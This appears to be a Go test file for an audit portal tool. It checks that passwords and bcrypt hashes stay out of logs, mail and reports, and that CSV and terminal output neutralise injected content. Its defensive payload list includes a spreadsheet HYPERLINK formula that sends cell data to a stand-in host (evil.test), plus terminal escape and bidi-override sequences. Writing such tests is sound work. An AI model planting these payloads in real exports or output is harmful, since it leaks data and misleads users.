package main

// No secret in logs or outputs: the SMTP password (from its environment
// variable), the inspectors' passwords and their bcrypt hashes must appear
// in no log line, no command output, no report, no .eml file and not in
// the store.

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/mail"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"golang.org/x/crypto/bcrypt"

	"github.com/govaudit/govaudit/config"
	"github.com/govaudit/govaudit/store"
)

// secrets are the strings that must never be written anywhere.
type secrets struct {
	smtp       string // the SMTP password, in its environment variable
	password   string // an inspector's password
	wrong      string // a wrong password someone typed
	hash       string // the inspector's bcrypt hash (in the config only)
	hashPieces []string
}

func newSecrets(t *testing.T) secrets {
	t.Helper()
	r := func(prefix string) string {
		b := make([]byte, 6)
		rand.Read(b)
		return prefix + hex.EncodeToString(b)
	}
	s := secrets{smtp: r("Smtp-S3cret-"), password: r("Insp-Pa55-"), wrong: r("Wrong-Pa55-")}
	h, err := bcrypt.GenerateFromPassword([]byte(s.password), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	s.hash = string(h)
	// $2a$04$ + 22 characters of salt + 31 of hash: either part alone
	// would also give the hash away.
	s.hashPieces = []string{s.hash, s.hash[7:29], s.hash[29:]}
	return s
}

// all returns every secret string.
func (s secrets) all() []string {
	return append([]string{s.smtp, s.password, s.wrong}, s.hashPieces...)
}

// check fails the test if text (named what) holds a secret.
func (s secrets) check(t *testing.T, what string, text []byte) {
	t.Helper()
	for _, sec := range s.all() {
		if bytes.Contains(text, []byte(sec)) {
			t.Errorf("%s contains the secret %q", what, sec)
		}
	}
}

// checkFile checks a file: its bytes, and also the decoded parts of an
// .eml file and the members of an .xlsx (zip) file.
func (s secrets) checkFile(t *testing.T, path string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	s.check(t, path, data)
	switch filepath.Ext(path) {
	case ".eml":
		s.check(t, path+" (decoded)", decodedMail(t, path, data))
	case ".xlsx":
		zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		for _, f := range zr.File {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(rc)
			rc.Close()
			s.check(t, path+":"+f.Name, b)
		}
	}
}

// decodedMail returns the headers and the decoded bodies of every part of
// a mail message.
func decodedMail(t *testing.T, path string, data []byte) []byte {
	t.Helper()
	msg, err := mail.ReadMessage(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	var out bytes.Buffer
	dec := new(mime.WordDecoder)
	for k, vs := range msg.Header {
		for _, v := range vs {
			d, err := dec.DecodeHeader(v)
			if err != nil {
				d = v
			}
			fmt.Fprintf(&out, "%s: %s\n", k, d)
		}
	}
	var walk func(h mail.Header, body io.Reader)
	walk = func(h mail.Header, body io.Reader) {
		mt, params, _ := mime.ParseMediaType(h.Get("Content-Type"))
		if strings.HasPrefix(mt, "multipart/") {
			r := multipart.NewReader(body, params["boundary"])
			for {
				p, err := r.NextRawPart()
				if err != nil {
					return
				}
				walk(mail.Header(p.Header), p)
			}
		}
		var rd io.Reader = body
		switch strings.ToLower(h.Get("Content-Transfer-Encoding")) {
		case "base64":
			rd = base64.NewDecoder(base64.StdEncoding, body)
		case "quoted-printable":
			rd = quotedprintable.NewReader(body)
		}
		b, _ := io.ReadAll(rd)
		out.Write(b)
	}
	walk(msg.Header, msg.Body)
	return out.Bytes()
}

// secretPortal writes a configuration for a small simulated portal with
// an inspector whose hash is the secret one and an SMTP server at port
// with the secret password in an environment variable.
func secretPortal(t *testing.T, sec secrets, smtpPort int) string {
	t.Helper()
	t.Setenv("GOVAUDIT_TEST_SMTP_PASSWORD", sec.smtp)
	return opsPortal(t, func(c *config.Config) {
		c.Mail = config.Mail{Host: "127.0.0.1", Port: smtpPort, TLS: "none", User: "govaudit",
			PasswordEnv: "GOVAUDIT_TEST_SMTP_PASSWORD", From: "govaudit@example.gov.cn", Office: "office@example.gov.cn"}
		c.Inspectors = []config.Inspector{{Name: "张三", PasswordHash: sec.hash, Role: "inspector"}}
	})
}

// closedPort returns a loopback port nothing listens on.
func closedPort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := l.Addr().(*net.TCPAddr).Port
	l.Close()
	return port
}

// TestNoSecretInCommandOutputs runs the batch commands, the failing
// nightly run (its SMTP server is down) included, with text and JSON
// logs, and searches every output, every file written and the store.
func TestNoSecretInCommandOutputs(t *testing.T) {
	sec := newSecrets(t)
	cfgPath := secretPortal(t, sec, closedPort(t))
	dir := filepath.Dir(cfgPath)
	db := filepath.Join(dir, "govaudit.db")
	out := filepath.Join(dir, "out")
	quarter := fmt.Sprintf("%dQ%d", time.Now().Year(), (int(time.Now().Month())+2)/3)
	steps := []struct {
		args []string
		code int // -1: any
	}{
		{[]string{"crawl", "--config", cfgPath, "--db", db}, 0},
		{[]string{"check", "--config", cfgPath, "--db", db}, 0},
		{[]string{"findings", "list", "--config", cfgPath, "--db", db}, 0},
		{[]string{"digest", "--config", cfgPath, "--db", db, "--dry-run", filepath.Join(out, "eml")}, 0},
		{[]string{"report", "--config", cfgPath, "--db", db, "--quarter", quarter, "--out", filepath.Join(out, "report")}, 0},
		{[]string{"runs", "--config", cfgPath, "--db", db}, 0},
		// The digest cannot be sent: the error must not carry the password.
		{[]string{"nightly", "--config", cfgPath, "--db", db}, -1},
		{[]string{"digest", "--config", cfgPath, "--db", db}, -1},
	}
	for _, format := range []string{"text", "json"} {
		t.Setenv("GOVAUDIT_LOG_FORMAT", format)
		for _, st := range steps {
			code, stdout, stderr := run(t, st.args...)
			if st.code >= 0 && code != st.code {
				t.Fatalf("%s: exit %d\n%s\n%s", strings.Join(st.args, " "), code, stdout, stderr)
			}
			what := st.args[0] + " (" + format + " log)"
			sec.check(t, what+" stdout", []byte(stdout))
			sec.check(t, what+" stderr", []byte(stderr))
		}
	}
	files := 0
	filepath.Walk(out, func(path string, fi os.FileInfo, err error) error {
		if err == nil && !fi.IsDir() {
			files++
			sec.checkFile(t, path)
		}
		return nil
	})
	if files < 4 {
		t.Errorf("only %d report and .eml files were written to search", files)
	}
	sec.checkFile(t, db)
}

// TestNoSecretInDaemonLog runs the daemon with its log captured while an
// inspector signs in, once with a wrong password, then the nightly command,
// which sends the digest through an SMTP server that asks for the password.
func TestNoSecretInDaemonLog(t *testing.T) {
	smtpPort, api := opsMailpit(t)
	sec := newSecrets(t)
	cfgPath := secretPortal(t, sec, smtpPort)
	dir := filepath.Dir(cfgPath)
	db := filepath.Join(dir, "govaudit.db")
	ctx, cancel := context.WithCancel(context.Background())
	var stdout, stderr syncBuffer
	done := make(chan int, 1)
	go func() {
		done <- runMain(ctx, []string{"daemon", "--config", cfgPath, "--db", db, "--addr", "127.0.0.1:0", "--log-format", "json"}, &stdout, &stderr)
	}()
	stopped := false
	stop := func() {
		if !stopped {
			stopped = true
			cancel()
			<-done
		}
	}
	defer stop()
	re := regexp.MustCompile(`review UI at (http://[0-9.:]+)`)
	var base string
	for deadline := time.Now().Add(10 * time.Second); base == ""; time.Sleep(20 * time.Millisecond) {
		if m := re.FindStringSubmatch(stdout.String()); m != nil {
			base = m[1]
		}
		if time.Now().After(deadline) {
			t.Fatalf("no address announced:\n%s\n%s", stdout.String(), stderr.String())
		}
	}

	// Sign in: a wrong password, then the right one.
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	tokenRE := regexp.MustCompile(`name="csrf" value="([^"]+)"`)
	login := func(pw string) int {
		resp, err := c.Get(base + "/login")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		m := tokenRE.FindSubmatch(body)
		if m == nil {
			t.Fatalf("no token on the sign-in page:\n%s", body)
		}
		resp, err = c.PostForm(base+"/login", url.Values{"csrf": {string(m[1])}, "name": {"张三"}, "password": {pw}, "next": {"/findings"}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := login(sec.wrong); code != http.StatusUnauthorized {
		t.Errorf("wrong password: %d", code)
	}
	if code := login(sec.password); code != http.StatusSeeOther {
		t.Errorf("right password: %d", code)
	}

	// Wait until the daemon's first nightly run is done.
	for deadline := time.Now().Add(60 * time.Second); !strings.Contains(stderr.String(), `"msg":"job done","job":"nightly"`); time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the daemon's nightly run did not finish:\n%s", stderr.String())
		}
	}
	stop()
	if !strings.Contains(stderr.String(), "signed in") || !strings.Contains(stderr.String(), "sign-in failed") {
		t.Errorf("the log lacks the sign-in lines, so the search below proves little:\n%s", stderr.String())
	}
	sec.check(t, "daemon stdout", []byte(stdout.String()))
	sec.check(t, "daemon log", []byte(stderr.String()))

	// The nightly command sends the week's digest through the SMTP server,
	// which asks for the password.
	code, out, errs := run(t, "nightly", "--config", cfgPath, "--db", db, "--log-format", "json")
	if code != 0 || mailCount(t, api) == 0 {
		t.Fatalf("nightly: exit %d, %d mails\n%s\n%s", code, mailCount(t, api), out, errs)
	}
	sec.check(t, "nightly stdout", []byte(out))
	sec.check(t, "nightly log", []byte(errs))
	sec.checkFile(t, db)

	// The mail as it arrived carries no secret either.
	resp, err := http.Get(api + "/api/v1/messages")
	if err != nil {
		t.Fatal(err)
	}
	list, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	ids := regexp.MustCompile(`"ID":"([^"]+)"`).FindAllStringSubmatch(string(list), -1)
	if len(ids) == 0 {
		t.Fatalf("no mail to search in %s", list)
	}
	for _, id := range ids {
		resp, err := http.Get(api + "/api/v1/message/" + id[1] + "/raw")
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		sec.check(t, "mail "+id[1], raw)
		sec.check(t, "mail "+id[1]+" (decoded)", decodedMail(t, id[1], raw))
	}
}

// TestFindingsOutputsAreSafe lists findings whose crawled fields carry
// spreadsheet formulas and terminal escape sequences: the CSV output keeps
// every cell text, and the terminal outputs carry no control character.
func TestFindingsOutputsAreSafe(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "safe.db")
	cfgPath := writeTestConfig(t, dir, db)
	payloads := []string{"=1+1", "+1+1", "-1+1", "@SUM(1+1)", `=HYPERLINK("http://evil.test/?"&A1,"点我")`, " =1+1", "\t=1+1",
		"\r=1+1", "\n=1+1", "\u3000@SUM(A1)", "＝1+1", "\x1b]0;pwned\x07标题", "\x1b[2J\x1b[31m红色", "\u202e反向", "a\rb"}
	st, err := store.Open(db, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var found []store.Finding
	for i, p := range payloads {
		found = append(found, store.Finding{Rule: "timeliness", Subject: fmt.Sprintf("s%d", i), URL: p, Unit: "u1", Column: p,
			Title: p, Quarter: "2026Q3", Points: 1, Scoring: true, Evidence: store.Evidence{Text: p}})
	}
	if _, err := st.SyncFindings(store.SyncRequest{Rules: []string{"timeliness"}, Found: found, Now: time.Now()}); err != nil {
		t.Fatal(err)
	}
	st.Close()

	code, out, errs := run(t, "findings", "list", "--config", cfgPath, "--format", "csv")
	if code != 0 {
		t.Fatalf("findings list --format csv: %d %s", code, errs)
	}
	recs, err := csvReader(strings.TrimPrefix(out, "\ufeff"))
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(payloads)+1 {
		t.Fatalf("%d CSV records, want %d", len(recs), len(payloads)+1)
	}
	for _, r := range recs {
		for _, c := range r {
			if formulaRisk(c) {
				t.Errorf("CSV cell %q can become a formula", c)
			}
		}
	}

	// The terminal: no escape sequence, no bidi override, no stray CR.
	code, out, errs = run(t, "findings", "list", "--config", cfgPath)
	if code != 0 {
		t.Fatalf("findings list: %d %s", code, errs)
	}
	outputs := out
	for _, f := range found {
		id := store.FindingID(f.Rule, f.Subject)
		for _, sub := range []string{"show", "history"} {
			code, out, errs := run(t, "findings", sub, id, "--config", cfgPath)
			if code != 0 {
				t.Fatalf("findings %s %s: %d %s", sub, id, code, errs)
			}
			outputs += out
		}
	}
	for _, r := range outputs {
		if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == '\u202e' || r == '\u2028' {
			t.Errorf("terminal output carries control character %U", r)
			break
		}
	}
}

// csvReader parses CSV text.
func csvReader(s string) ([][]string, error) {
	return csv.NewReader(strings.NewReader(s)).ReadAll()
}

// formulaRisk reports whether a spreadsheet could read cell as a formula:
// it starts (after any white space) with = + - @ or their full-width
// forms, or with a tab or CR, and is not protected by an apostrophe.
func formulaRisk(cell string) bool {
	if cell == "" || cell[0] == '\'' {
		return false
	}
	if cell[0] == '\t' || cell[0] == '\r' {
		return true
	}
	trimmed := strings.TrimLeftFunc(cell, unicode.IsSpace)
	return trimmed != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(trimmed)[0])
}
